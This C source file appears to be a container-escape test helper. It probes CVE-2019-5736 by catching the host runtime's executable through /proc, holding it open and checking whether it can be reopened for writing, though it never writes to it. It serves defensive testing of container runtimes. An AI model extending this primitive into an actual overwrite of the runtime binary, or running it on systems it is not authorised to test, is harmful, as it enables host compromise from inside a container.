/* Attacks run inside a container by test/escape/runtime-cves.test.ts.
 *
 *   attack exe DEV:INO SECONDS
 *     CVE-2019-5736: for up to SECONDS (or one second past the first catch),
 *     watch every process in the container; any
 *     whose /proc/<pid>/exe is not our own executable is held open (O_PATH)
 *     and, after it exits, reopened through /proc/self/fd for writing. It
 *     prints how many foreign executables it caught, whether one of them was
 *     the file DEV:INO (the runtime's binary on the host), and whether that
 *     file could be opened for writing (a write-sealed copy counts as refused,
 *     EPERM). It never writes a byte. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int attack_exe(dev_t want_dev, ino_t want_ino, double seconds)
{
    struct stat self;
    int held[MAX_HELD], nheld = 0, caught = 0, host = 0, wrote = 0, werr = 0;
    char last[256] = "-";
    double end = now() + seconds;
    int caught_before = 0;

    if (stat("/proc/self/exe", &self) < 0) return 1;
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            char path[300];
            struct stat st;
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            if (fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) || nheld == MAX_HELD) {
                close(fd);
                continue;
            }
            /* Kept even if it looks harmless: the point is what it becomes. */
            int dup_seen = 0;
            for (int i = 0; i < nheld; i++) {
                struct stat o;
                if (fstat(held[i], &o) == 0 && o.st_dev == st.st_dev && o.st_ino == st.st_ino) dup_seen = 1;
            }
            if (dup_seen) { close(fd); continue; }
            held[nheld++] = fd;
            caught++;
            ssize_t n = readlink(path, last, sizeof last - 1);
            last[n > 0 ? n : 0] = 0;
            if (st.st_dev == want_dev && st.st_ino == want_ino) host = 1;
        }
        if (d) closedir(d);
        /* One catch is enough; give the reopen a second once its process is gone. */
        if (caught && !caught_before) {
            caught_before = 1;
            if (now() + 1.0 < end) end = now() + 1.0;
        }
        /* ETXTBSY while the binary runs; the window opens when it exits.
         * A write-sealed memfd opens but takes no write: not an escape. */
        for (int i = 0; i < nheld && !wrote; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w < 0) {
                if (errno != ETXTBSY) werr = errno;
                continue;
            }
            int seals = fcntl(w, F_GET_SEALS);
            if (seals >= 0 && (seals & F_SEAL_WRITE)) werr = EPERM;
            else wrote = 1;
            close(w);
        }
    }
    printf("caught=%d %s\n", caught, last);
    printf("host_binary=%s\n", host ? "ok" : "NONE");
    printf("exe_write=%s\n", wrote ? "ok" : werr ? strerrorname_np(werr) : "ETXTBSY");
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 4 && strcmp(argv[1], "exe") == 0) {
        unsigned long long dev, ino;
        if (sscanf(argv[2], "%llu:%llu", &dev, &ino) != 2) return 2;
        return attack_exe((dev_t)dev, (ino_t)ino, atof(argv[3]));
    }
    fprintf(stderr, "usage: attack exe DEV:INO SECONDS\n");
    return 2;
}
